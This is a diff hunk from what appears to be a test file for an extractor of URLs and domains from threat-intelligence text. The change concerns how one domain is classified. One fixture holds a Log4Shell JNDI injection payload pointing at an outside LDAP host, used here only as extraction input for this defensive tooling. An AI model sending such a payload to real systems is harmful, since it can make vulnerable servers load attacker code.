@@ -26,7 +26,7 @@ describe('extract: what is found', () => {
     ['github.com/org/repo is the source', ['url http://github.com/org/repo']],
     ['${jndi:ldap://45.83.193.150:1389/a}', ['url ldap://45.83.193.150:1389/a']],
     ['invoice[.]zip was the domain', ['domain invoice.zip']], // defanged: meant as a domain
-    ['www.evil.host', ['domain www.evil.host'].slice(0, 0)], // field-name suffix: skipped unless defanged
+    ['www.evil.host', ['domain www.evil.host']], // ends like a field name, but its labels are no field words
     ['www.evil[.]host', ['domain www.evil.host']],
     ['münchen-login.de', ['domain xn--mnchen-login-dlb.de']],
   ];
